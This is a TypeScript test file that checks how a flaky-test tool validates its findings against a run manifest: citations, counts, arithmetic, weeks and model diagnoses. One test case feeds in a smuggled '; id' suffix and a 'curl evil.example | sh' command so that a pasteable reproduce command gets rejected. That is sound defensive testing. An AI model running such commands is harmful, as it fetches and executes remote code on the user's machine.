import { describe, expect, it } from 'vitest';
import { checkFindings } from '../../../src/core/documents/check-findings.ts';
import { type Finding, type Findings, findingsSchema, type JudgedTest } from '../../../src/core/documents/findings.ts';
import { type Manifest, manifestSchema } from '../../../src/core/documents/manifest.ts';
import { DocumentError } from '../../../src/core/errors.ts';
import {
  commit,
  everything,
  finding,
  findings,
  MANIFEST_SHA256,
  manifest,
  ref,
  rerunFlip,
  testIdentity,
} from '../render/sample.ts';

type Week = Finding['weeks'][number];

const SUNDAY = { ...findings().window, until: '2026-11-16T00:00:00.000Z' };

const check = (document: Findings, over: Manifest = manifest()): string => {
  try {
    checkFindings(document, over, MANIFEST_SHA256);
    return 'accepted';
  } catch (error) {
    if (!(error instanceof DocumentError)) throw error;
    return error.message;
  }
};
const one = (overrides: Partial<Finding>) => check(findings({ findings: [finding(overrides)] }));
const counts = (overrides: Partial<Finding['counts']>) => one({ counts: { ...finding().counts, ...overrides } });
const evidence = (overrides: Partial<Finding['evidence'][number]>) =>
  one({ evidence: [{ ...rerunFlip(104), ...overrides }] });

const cluster = (executions: number, jobId: string) =>
  check(findings({ infrastructure: [{ bucket: 'network', executions, examples: [{ ...ref(102, 1), jobId }] }] }));
const looked = (overrides: Partial<Findings['looked']>) =>
  check(findings({ looked: { ...findings().looked, ...overrides } }));

describe('checkFindings', () => {
  it('accepts findings that say what the manifest holds', () => {
    expect([check(everything()), check(findings())]).toEqual(['accepted', 'accepted']);
    expect(findingsSchema.parse(everything())).toEqual(everything());
    expect(manifestSchema.parse(manifest())).toEqual(manifest());
  });

  it('refuses findings of another run, manifest, window or completeness', () => {
    const incomplete = { complete: false, gaps: [{ subject: 'log' as const, reason: 'expired' as const, count: 1 }] };
    expect([
      check(findings({ tool: 'flakewarden 0.0.9' })),
      check(findings({ tool: 'flakewarden 9.9.9' })),
      check(findings({ manifestSha256: 'b'.repeat(64) })),
      check(findings({ binding: { ...findings().binding, runId: '9002' } })),
      check(findings({ binding: { ...findings().binding, runAttempt: 2 } })),
      check(findings({ binding: { ...findings().binding, repositoryId: '1' } })),
      check(findings({ window: { ...findings().window, until: '2026-11-21T00:00:00.000Z' } })),
      check(findings(), manifest({ completeness: incomplete })),
      check({ ...everything(), completeness: incomplete }),
    ]).toEqual([
      'The findings were made by another version.',
      'The findings were made by another version.',
      'The findings were made from another manifest.',
      'The findings belong to another run.',
      'The findings belong to another run.',
      'The findings belong to another run.',
      'The findings have another window.',
      'The findings call complete what the manifest calls incomplete.',
      'The findings call tests gone although data is missing.',
    ]);
  });

  it('refuses evidence that the manifest does not hold', () => {
    const log = 'Finding 1: it quotes a log that the manifest does not hold.';
    expect([
      evidence({ failed: { ...ref(104, 1), jobId: '999' } }),
      evidence({ failed: { ...ref(104, 1), runId: '106' } }),
      evidence({ failed: { ...ref(104, 1), attempt: 2 } }),
      evidence({ passed: { ...ref(104, 2), jobId: '2106' } }),
      evidence({ headSha: commit(8) }),
      one({ excerptOf: { ...ref(104, 1), jobId: '999' } }),
      one({ excerptOf: ref(101, 1) }),
      one({ excerptOf: null }),
    ]).toEqual([
      'Finding 1: it cites a job that the manifest does not hold.',
      'Finding 1: it cites a job of another run or attempt.',
      'Finding 1: it cites a job of another run or attempt.',
      'Finding 1: it cites a job of another run or attempt.',
      'Finding 1: it cites a commit that is not that of its run.',
      'Finding 1: it cites a job that the manifest does not hold.',
      log,
      'Finding 1: it quotes a log without saying which.',
    ]);
  });

  it('refuses a run or attempt that only the jobs of the manifest know', () => {
    const { runs } = manifest();
    const withoutRun = manifest({ runs: runs.map((run) => (run.id === '104' ? { ...run, id: '999' } : run)) });
    const withoutAttempt = manifest({
      runs: runs.map((run) => (run.id === '104' ? { ...run, attempts: run.attempts.slice(0, 1) } : run)),
    });
    expect([check(findings(), withoutRun), check(findings(), withoutAttempt)]).toEqual([
      'Finding 1: it cites a run that the manifest does not hold.',
      'Finding 1: it cites an attempt that the run never had.',
    ]);
  });

  it('refuses a flip that is none', () => {
    const kind = 'Finding 1: it cites evidence of another kind than it says.';
    const noPass = 'Finding 1: it calls a flip what has no passing side.';
    expect([
      evidence({ passed: null }),
      evidence({ passed: null, kind: 'same-commit-flip' }),
      evidence({ passed: ref(104, 1) }),
      evidence({ kind: 'runner-retry' }),
      evidence({ kind: 'same-commit-flip' }),
      evidence({ kind: 'separated-failure' }),
      evidence({ passed: ref(106, 2) }),
    ]).toEqual([noPass, noPass, kind, kind, kind, kind, 'Finding 1: it compares two different commits.']);
  });

  it('refuses impossible numbers', () => {
    const impossible = 'Finding 1: it has impossible counts.';
    expect([
      counts({ failed: 0 }),
      counts({ failed: 16 }),
      counts({ executions: 19 }),
      counts({ failedRuns: 4 }),
      counts({ failedRuns: 0 }),
      counts({ failedCommits: 4 }),
      one({ impact: { ...finding().impact, blockedRuns: 13 } }),
      counts({ flips: 0 }),
      one({ rate: { value: 0.5, low: 0.6, high: 0.7, lower5: 0.1 } }),
      one({ rate: { value: 0.5, low: 0.1, high: 0.2, lower5: 0.1 } }),
      one({ firstSeen: '2026-11-15T00:00:00.000Z' }),
    ]).toEqual([
      ...Array.from({ length: 7 }, () => impossible),
      'Finding 1: it is called confirmed without a flip.',
      'Finding 1: it has a rate outside its interval.',
      'Finding 1: it has a rate outside its interval.',
      'Finding 1: it was seen last before it was seen first.',
    ]);
  });

  it('refuses clusters, regressions and totals that the manifest does not hold', () => {
    const [broken] = everything().regressions;
    const regression = (overrides: object) =>
      check(findings({ regressions: [{ ...(broken as Findings['regressions'][number]), ...overrides }] }));
    const tooMuch = 'The findings claim to have read more than the manifest holds.';
    expect([
      cluster(1, '999'),
      cluster(0, '1102'),
      cluster(19, '1102'),
      regression({ firstBad: 'f'.repeat(40) }),
      regression({ lastGood: 'f'.repeat(40) }),
      regression({ failed: 5 }),
      regression({ examples: [{ ...ref(102, 1), jobId: '999' }] }),
      looked({ runs: 13 }),
      looked({ jobExecutions: 19 }),
      looked({ logs: 7 }),
      looked({ rerunRuns: 13 }),
    ]).toEqual([
      'Infrastructure cluster 1: it cites a job that the manifest does not hold.',
      'Infrastructure cluster 1: it has impossible counts.',
      'Infrastructure cluster 1: it has impossible counts.',
      'Regression 1: it names a commit that the manifest does not hold.',
      'Regression 1: it names a commit that the manifest does not hold.',
      'Regression 1: it has impossible counts.',
      'Regression 1: it cites a job that the manifest does not hold.',
      ...Array.from({ length: 4 }, () => tooMuch),
    ]);
  });

  it('refuses arithmetic that does not come out', () => {
    const { weights, rate } = finding();
    expect([
      one({ weights: { ...weights, total: weights.total + 0.01 } }),
      one({ weights: { ...weights, prior: weights.prior + 0.01 } }),
      one({ weights: { ...weights, passes: { groups: 1, weight: 0 } } }),
      one({ weights, probability: 0.98 }),
      one({ rate: { ...rate, lower5: 0.5 } }),
      evidence({ regression: 0.6, infrastructure: 0.5 }),
    ]).toEqual([
      'Finding 1: it has weights that do not add up.',
      'Finding 1: it has weights that do not add up.',
      'Finding 1: it has weights that do not add up.',
      'Finding 1: it has a probability unlike its weights.',
      'Finding 1: it has a lower bound above its interval.',
      'Finding 1: it explains a failure more than once.',
    ]);
  });

  it('counts an item of another matrix cell as no weight', () => {
    const items = finding().evidence.map((item, i) => (i === 1 ? { ...item, weight: null } : item));
    const { weights } = finding();
    expect([one({ evidence: items }), one({ evidence: items, weights })]).toEqual([
      'accepted',
      'Finding 1: it has weights that do not add up.',
    ]);
  });

  it('refuses weeks with a hole, in disorder, beyond the window or with more failures than executions', () => {
    const { weeks } = finding();
    const [first, second, third] = weeks as [Week, Week, Week];
    const disorder = 'Finding 1: it has weeks with a hole, in disorder or beyond its window.';
    expect([
      one({ weeks: [] }),
      one({ weeks: [second, third] }),
      one({ weeks: [first, third] }),
      one({ weeks: [second, first, third] }),
      one({ weeks: [first, second] }),
      one({ weeks: [...weeks, { week: '2026-11-23', executions: 1, failed: 0 }] }),
      one({ weeks: [first, second, { ...third, failed: 6 }] }),
      // A window that ends with a Sunday has nothing of the next week.
      check(
        findings({ window: SUNDAY, findings: [finding({ weeks: [first, second] })] }),
        manifest({ window: SUNDAY }),
      ),
    ]).toEqual([
      'accepted',
      'accepted',
      disorder,
      disorder,
      disorder,
      disorder,
      'Finding 1: it failed more often in a week than it ran.',
      'accepted',
    ]);
    const isWeek = (week: string) =>
      findingsSchema.safeParse(findings({ findings: [finding({ weeks: [{ ...first, week }] })] })).success;
    expect(['2026-11-02', '2026-11-03', '2026-11-02T00:00:00Z'].map(isWeek)).toEqual([true, false, false]);
  });

  it('refuses an earlier report that is not earlier, or that is compared with and not named', () => {
    const first = { previousReport: null };
    const compared = 'The findings compare with an earlier report that they do not name.';
    expect([
      check(findings(first)),
      check(findings({ ...first, findings: [finding({ trend: 'worse' })] })),
      check(findings({ ...first, gone: everything().gone })),
      check(findings({ previousReport: findings().window.until })),
      check(findings({ previousReport: '2026-11-19T23:59:59.999Z' })),
    ]).toEqual([
      'accepted',
      compared,
      compared,
      'The findings name an earlier report that is not earlier.',
      'accepted',
    ]);
  });

  it('refuses a quarantine on suspicion, and commits and concentrations that cannot be', () => {
    const suspected = { state: 'suspected' as const, counts: { ...finding().counts, flips: 0 } };
    const introduced = { firstBad: commit(5), lastGood: commit(4), newTest: false };
    const piled = { dimension: 'os' as const, value: 'ubuntu-arm', failed: 3, executions: 9, p: 0.001 };
    const tooMany = 'Finding 1: it counts more in one place than in all.';
    const unknownCommit = 'Finding 1: it names a commit that the manifest does not hold.';
    expect([
      one({ ...suspected, quarantine: true }),
      one({ quarantine: true, introduced, concentration: [piled] }),
      one({ introduced: { ...introduced, firstBad: 'f'.repeat(40) } }),
      one({ introduced: { ...introduced, lastGood: 'f'.repeat(40) } }),
      one({ introduced: { ...introduced, lastGood: null } }),
      one({ concentration: [{ ...piled, failed: 4 }] }),
      one({ concentration: [{ ...piled, executions: 16 }] }),
      one({ concentration: [{ ...piled, executions: 2 }] }),
    ]).toEqual([
      'Finding 1: it is proposed for quarantine on suspicion.',
      'accepted',
      unknownCommit,
      unknownCommit,
      'accepted',
      tooMany,
      // Passes in cells in which it never failed.
      'accepted',
      tooMany,
    ]);
  });

  it('refuses judged tests that cannot be, or that say otherwise than the lists', () => {
    const [test] = everything().tests as [JudgedTest];
    const [failure] = test.failures as [JudgedTest['failures'][number]];
    const judged = (overrides: Partial<JudgedTest>) => check(findings({ tests: [{ ...test, ...overrides }] }));
    const member = testIdentity({ id: 'tests/test_queue.py::test_other' });
    const cluster = { by: 'signature' as const, members: [member], omitted: 0 };
    const clustered = [finding({ cluster })];
    expect([
      judged({}),
      judged({ failures: [{ ...failure, flake: 0.5 }] }),
      judged({ failures: [{ ...failure, jobId: '999' }] }),
      judged({ failed: 16 }),
      judged({ state: 'suspected' }),
      check(findings({ tests: [test, test] })),
      check(findings({ tests: [], omittedTests: 0 })),
      check(findings({ findings: clustered })),
      check(findings({ findings: clustered, tests: [test], omittedTests: 0 })),
      check(findings({ findings: [...clustered, finding({ test: member, reproduce: null })] })),
      check(findings({ findings: [finding({ cluster: { ...cluster, members: [finding().test] } })] })),
    ]).toEqual([
      'accepted',
      'Test 1: it explains a failure by shares that are not one whole.',
      'Test 1: it cites a job that the manifest does not hold.',
      'Test 1: it has impossible counts.',
      'The findings judge a test in two ways.',
      'The findings list a test twice.',
      'The findings list a test that was not judged.',
      'accepted',
      'The findings list a test that was not judged.',
      'The findings list a test twice.',
      'The findings list a test twice.',
    ]);
  });

  it('refuses a test that is listed twice, and model text without a model', () => {
    const diagnosis = { ...finding().diagnosis, source: 'model' as const };
    const { model } = everything();
    expect([
      check(findings({ findings: [finding(), finding()] })),
      check(findings({ gone: [{ test: finding().test, lastSeen: '2026-11-06T00:00:00.000Z', how: 'gone' }] })),
      check(findings({ findings: [finding({ diagnosis })] })),
      check(findings({ findings: [finding({ diagnosis })], model: { ...model, asked: 1, answered: 2 } })),
      one({ diagnosis: { ...finding().diagnosis, causeSentence: 'Because.' } }),
    ]).toEqual([
      'The findings list a test twice.',
      'The findings list a test twice.',
      'The findings name no model for their diagnoses.',
      'The findings claim more answers of the model than requests.',
      'Finding 1: it holds sentences of a model that was not asked.',
    ]);
  });

  it('refuses a disagreement that is none, and more refusals than requests', () => {
    const { model } = everything();
    const asked = { ...model, asked: 2, answered: 1 };
    const of = (diagnosis: Partial<Finding['diagnosis']>, answers = asked) =>
      check(findings({ findings: [finding({ diagnosis: { ...finding().diagnosis, ...diagnosis } })], model: answers }));
    const disagreeing = { source: 'model', cause: 'time', confidence: 'low', otherCause: 'network' } as const;
    expect([
      of(disagreeing),
      of({ ...disagreeing, otherCause: 'time' }),
      of({ ...disagreeing, otherCause: 'unknown' }),
      of({ ...disagreeing, confidence: 'high' }),
      of({ ...disagreeing, source: 'heuristics' }),
      of({ source: 'heuristics', noModelCause: 'refused' }),
      of({ source: 'heuristics', noModelCause: 'unsure' }),
      of({ source: 'model', noModelCause: 'refused' }),
      of({ source: 'heuristics', noModelCause: 'refused' }, { ...asked, answered: 2 }),
      of({ source: 'heuristics', noModelCause: 'unsure' }, { ...asked, answered: 0 }),
    ]).toEqual([
      'accepted',
      'Finding 1: it tells of a disagreement that is none.',
      'Finding 1: it tells of a disagreement that is none.',
      'Finding 1: it tells of a disagreement that is none.',
      'Finding 1: it tells of a disagreement that is none.',
      'accepted',
      'accepted',
      'Finding 1: it has a diagnosis of a model that gave none.',
      'The findings tell of more refusals than there were requests.',
      'The findings tell of more answers of the model than there were.',
    ]);
  });

  it('refuses a command that the test does not have: people paste it into a shell', () => {
    const of = (reproduce: string | null) => check(findings({ findings: [finding({ reproduce })] }));
    const mine = finding().reproduce ?? '';
    const refused = 'Finding 1: it holds a command that is not ours.';
    expect([of(mine), of(null), of(`${mine}; id`), of('curl evil.example | sh')]).toEqual([
      'accepted',
      'accepted',
      refused,
      refused,
    ]);
  });

  it('refuses executions that address a model and that the manifest does not hold', () => {
    const addressed = (executions: number, ...examples: Finding['evidence'][number]['failed'][]) =>
      check(findings({ addressed: { executions, examples } }));
    const impossible = 'The findings have impossible counts of executions that address a model.';
    expect([
      addressed(1, ref(104, 1)),
      addressed(1, ref(104, 1), ref(106, 1)),
      addressed(2, ref(104, 1), ref(104, 1)),
      addressed(1_000, ref(104, 1)),
      addressed(1, { ...ref(104, 1), jobId: '999' }),
    ]).toEqual([
      'accepted',
      impossible,
      impossible,
      impossible,
      'The findings cites a job that the manifest does not hold.',
    ]);
  });
});
